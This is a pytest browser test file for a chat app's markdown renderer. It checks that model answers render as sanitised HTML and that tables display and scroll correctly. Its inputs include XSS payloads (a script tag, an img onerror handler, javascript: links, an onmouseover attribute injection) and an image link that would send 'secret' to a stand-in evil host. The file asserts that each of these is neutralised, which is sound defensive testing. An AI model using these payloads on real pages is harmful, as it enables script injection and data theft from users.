"""Answers render as GitHub-flavoured markdown in Chromium, and nothing in them can run.

The renderer (web/js/markdown.js: marked, then DOMPurify, both vendored) is called in a
real page of the local runtime, and a scripted model's answer with a table goes through
the whole chat.
"""

from __future__ import annotations

import re
from typing import Any

import pytest

from tests.support.runtime_process import RuntimeProcess
from tests.support.scripted_model import Reply, ScriptedModelServer
from tests.web.test_chat_browser import Page

pytestmark = pytest.mark.browser

TABLE = (
    "Top vaults on Base:\n\n"
    "| Vault | Protocol | APY | TVL |\n"
    "| --- | --- | ---: | ---: |\n"
    "| USDC Prime | Morpho | 6.42% | $12.3M |\n"
    "| cbETH Loop | Aave v3 | 3.1% | $850,000 |\n"
)
ALLOWED_TAGS = {
    "p", "br", "strong", "em", "del", "s", "code", "pre", "blockquote", "hr", "ul", "ol",
    "li", "h3", "h4", "h5", "h6", "a", "table", "thead", "tbody", "tr", "th", "td", "div",
}  # fmt: skip


@pytest.fixture
def tab(browser: Any, runtime: RuntimeProcess) -> Any:
    context = browser.new_context(viewport={"width": 1200, "height": 800})
    page = Page(context.new_page(), runtime.url)
    yield page.open()
    context.close()
    assert page.errors == [], page.errors


def render(tab: Page, texts: list[str]) -> list[str]:
    return list(
        tab.page.evaluate(
            "async (texts) => { const m = await import('/js/markdown.js');"
            " return texts.map(m.renderMarkdown); }",
            texts,
        )
    )


def test_gfm_renders_and_only_fixed_tags_and_attributes_come_out(tab: Page) -> None:
    html = render(
        tab,
        [
            "<img src=x onerror=alert(1)> <script>alert(2)</script>",
            "**bold** *it* `<b>` and ~~gone~~",
            "# Title\n- one\n- two\n\n1. a\n2. b",
            "```js\n<b>not bold</b>\n```",
            "[doc](https://example.org/a?b=1&c=2) [bad](javascript:alert(1))",
            "see https://app.albert.example/token/ethereum/0xAbC. and more",
            '[x](https://a.b/"onmouseover=alert(1)) ![pixel](https://evil.example/?q=secret)',
            "window.__xss=1 and snake_case_name",
            TABLE,
            "<a href='javascript:alert(3)'>raw</a> [m](mailto:ops@example.org)",
        ],
    )
    assert "<script" not in html[0] and "<img" not in html[0]
    assert "&lt;script&gt;alert(2)&lt;/script&gt;" in html[0]  # shown, as text
    assert "<strong>bold</strong>" in html[1] and "<em>it</em>" in html[1]
    assert "<code>&lt;b&gt;</code>" in html[1] and "<del>gone</del>" in html[1]
    assert html[2].startswith("<h3>Title</h3>")
    assert "<ul>" in html[2] and "<ol>" in html[2]
    assert "<pre><code>&lt;b&gt;not bold&lt;/b&gt;\n</code></pre>" in html[3]
    assert 'href="https://example.org/a?b=1&amp;c=2"' in html[4]
    assert 'target="_blank"' in html[4] and 'rel="noopener noreferrer"' in html[4]
    assert "javascript" not in re.sub(r">[^<]*<", "><", html[4])
    assert 'href="https://app.albert.example/token/ethereum/0xAbC"' in html[5]
    # The quote stays inside the URL (percent-encoded): no attribute of its own.
    assert 'href="https://a.b/%22onmouseover=alert(1)"' in html[6]
    assert " onmouseover" not in html[6] and "evil.example" not in html[6]
    assert "<img" not in html[6]
    assert html[7].strip() == "<p>window.__xss=1 and snake_case_name</p>"
    assert 'href="javascript' not in html[9] and 'href="mailto:ops@example.org"' in html[9]
    for fragment in html:
        tags = set(re.findall(r"</?([A-Za-z][A-Za-z0-9]*)", fragment))
        assert tags <= ALLOWED_TAGS, tags - ALLOWED_TAGS
        attributes = set(re.findall(r"\s([a-z-]+)=\"", fragment))
        assert attributes <= {"href", "target", "rel", "align", "class", "title"}
    assert tab.page.evaluate("window.__xss === undefined")


def test_a_table_in_an_answer_renders_as_a_scrolling_table_with_figures_right(
    tab: Page, model: ScriptedModelServer
) -> None:
    model.script(Reply(text=[TABLE[:40], TABLE[40:90], TABLE[90:]], chunk_delay_seconds=0.05))
    tab.ask("best vaults on base?")
    tab.wait_turn(1)
    page = tab.page
    assert page.query_selector(".answer .table-scroll > table") is not None
    headers = page.eval_on_selector_all(".answer th", "els => els.map(e => e.textContent)")
    assert headers == ["Vault", "Protocol", "APY", "TVL"]
    numeric = page.eval_on_selector_all(".answer td.num", "els => els.map(e => e.textContent)")
    assert numeric == ["6.42%", "$12.3M", "3.1%", "$850,000"]
    align = page.eval_on_selector(".answer td.num", "e => getComputedStyle(e).textAlign")
    assert align == "right"
    assert "|" not in page.inner_text(".answer table")


def test_a_wide_table_scrolls_inside_its_box_at_phone_width(
    browser: Any, runtime: RuntimeProcess, model: ScriptedModelServer
) -> None:
    context = browser.new_context(viewport={"width": 375, "height": 740})
    try:
        tab = Page(context.new_page(), runtime.url).open()
        wide = "| " + " | ".join(f"column {i}" for i in range(12)) + " |\n"
        wide += (
            "|" + " --- |" * 12 + "\n| " + " | ".join(f"{i * 1000.5}" for i in range(12)) + " |\n"
        )
        model.script(Reply(text=[wide]))
        tab.ask("wide")
        tab.wait_turn(1)
        box = tab.page.eval_on_selector(
            ".answer .table-scroll",
            "e => ({scroll: e.scrollWidth, client: e.clientWidth,"
            " page: document.documentElement.scrollWidth, view: window.innerWidth})",
        )
        assert box["scroll"] > box["client"], box  # the table scrolls in its box
        assert box["page"] <= box["view"], box  # and the page itself does not
        assert tab.errors == []
    finally:
        context.close()
